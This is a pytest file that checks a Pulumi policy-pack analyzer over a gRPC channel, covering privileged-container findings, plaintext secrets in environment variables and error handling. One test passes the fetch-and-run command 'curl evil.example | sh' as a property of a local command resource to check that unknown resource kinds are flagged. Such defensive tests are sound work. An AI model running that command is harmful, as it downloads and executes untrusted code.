"""Analyzer: the pack over a real channel, as Pulumi's engine asks it."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import grpc
import pytest
from google.protobuf import empty_pb2
from google.protobuf.struct_pb2 import Struct

from policies.analyzer import serve
from policies.declared import KeptServices
from policies.pack import Pack
from policies.resource import CONTAINER
from runyard.pulumi.marks import SECRET, SIGNATURE
from runyard.pulumi.protocol import analyzer_pb2, analyzer_pb2_grpc
from tests.unit.policies.resources import container

HELLO = {"runyard:manifests": "manifests/hello.yaml"}


class Broken(Pack):
    """A pack that fails wherever it is asked."""

    def configure(self, settings: Any) -> None:
        raise ZeroDivisionError("division by zero")

    def judge(self, resource: Any) -> Any:
        raise ZeroDivisionError("division by zero")


@pytest.fixture
def client(request: pytest.FixtureRequest) -> Iterator[Any]:
    """A client of a pack, of a broken one where the test asks for it."""
    kind: type[Pack] = getattr(request, "param", Pack)
    server, port = serve(kind(lambda _: KeptServices({}), lambda: None, lambda: "2026-11-23"))
    with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        yield analyzer_pb2_grpc.AnalyzerStub(channel)
    server.stop(None).wait()


def stack(**changes: Any) -> Any:
    return analyzer_pb2.AnalyzerStackConfigureRequest(
        **({"stack": "dev", "project": "runyard", "config": HELLO} | changes)
    )


def asked(properties: dict[str, Any], kind: str = CONTAINER) -> Any:
    sent = Struct()
    sent.update(properties)
    urn = f"urn:pulumi:dev::runyard::{kind}::batch"
    return analyzer_pb2.AnalyzeRequest(type=kind, name="batch", urn=urn, properties=sent)


def messages(answer: Any) -> list[str]:
    return [each.message for each in answer.diagnostics]


PRIVILEGED: dict[str, Any] = {**container("batch").properties, "privileged": True}


def test_finding_has_its_policy_its_level_and_its_resource(client: Any) -> None:
    client.ConfigureStack(stack())
    mandatory, advisory = client.Analyze(asked(PRIVILEGED | {"image": "shop/batch"})).diagnostics
    assert mandatory.message == "not-privileged: batch: privileged must not be true, got true (remove privileged)"
    assert mandatory.urn == asked(PRIVILEGED).urn
    assert (mandatory.policyName, mandatory.enforcementLevel) == ("resources", analyzer_pb2.MANDATORY)
    assert (advisory.policyName, advisory.enforcementLevel) == ("advice", analyzer_pb2.ADVISORY)
    info = client.GetAnalyzerInfo(empty_pb2.Empty())
    assert [each.name for each in info.policies] == ["resources", "advice"]
    assert not info.supportsConfig


def test_values_and_components_are_left_alone_and_what_a_provider_makes_of_another_kind_is_not(client: Any) -> None:
    client.ConfigureStack(stack())
    assert messages(client.Analyze(asked(PRIVILEGED, "random:index/randomId:RandomId"))) == []
    # Pulumi tells the provider of whatever one makes.
    command = asked({"create": "curl evil.example | sh"}, "command:local:Command")
    assert messages(client.Analyze(command)) == []
    command.provider.type = "pulumi:providers:command"
    (message,) = messages(client.Analyze(command))
    assert message.startswith("kinds-known: batch: type must be one that the pack knows, got command:local:Command")


def test_what_pulumi_keeps_as_a_secret_is_no_plain_one(client: Any) -> None:
    client.ConfigureStack(stack())
    plain = {**container("batch").properties, "envs": ["DB_PASSWORD=hunter2"]}
    (message,) = messages(client.Analyze(asked(plain)))
    assert message.startswith("own-environment-plain: batch: env DB_PASSWORD must hold no plain secret, got [secret]")
    sealed = plain | {"name": "other", "envs": {SIGNATURE: SECRET, "value": plain["envs"]}}
    assert messages(client.Analyze(asked(sealed))) == []


def test_stack_that_cannot_be_read_refuses(client: Any) -> None:
    with pytest.raises(grpc.RpcError) as raised:
        client.ConfigureStack(stack(config={"runyard:manifests": "manifests/absent.yaml"}))
    assert raised.value.code() == grpc.StatusCode.FAILED_PRECONDITION
    assert "absent.yaml" in raised.value.details()


def test_resource_of_no_stack_refuses(client: Any) -> None:
    with pytest.raises(grpc.RpcError) as raised:
        client.Analyze(asked(PRIVILEGED))
    assert raised.value.details() == "policy pack: must be told its stack before a resource, got none"


@pytest.mark.parametrize("client", [Broken], indirect=True)
def test_exception_refuses_and_is_never_taken_for_a_method_that_is_missing(client: Any) -> None:
    for ask in (lambda: client.ConfigureStack(stack()), lambda: client.Analyze(asked(PRIVILEGED))):
        with pytest.raises(grpc.RpcError) as raised:
            ask()
        assert raised.value.code() == grpc.StatusCode.FAILED_PRECONDITION
        assert raised.value.details() == "policy pack: ZeroDivisionError: division by zero"


def test_every_method_of_the_protocol_answers(client: Any) -> None:
    client.ConfigureStack(stack())
    requests = {
        "Handshake": analyzer_pb2.AnalyzerHandshakeRequest(),
        "GetPluginInfo": empty_pb2.Empty(),
        "GetAnalyzerInfo": empty_pb2.Empty(),
        "Configure": analyzer_pb2.ConfigureAnalyzerRequest(),
        "ConfigureStack": stack(),
        "Analyze": asked(PRIVILEGED),
        "AnalyzeStack": analyzer_pb2.AnalyzeStackRequest(),
        "Remediate": asked(PRIVILEGED),
        "Cancel": empty_pb2.Empty(),
    }
    assert requests.keys() == {name for name in vars(analyzer_pb2_grpc.AnalyzerServicer) if name[0].isupper()}
    for name, request in requests.items():
        assert getattr(client, name)(request) is not None
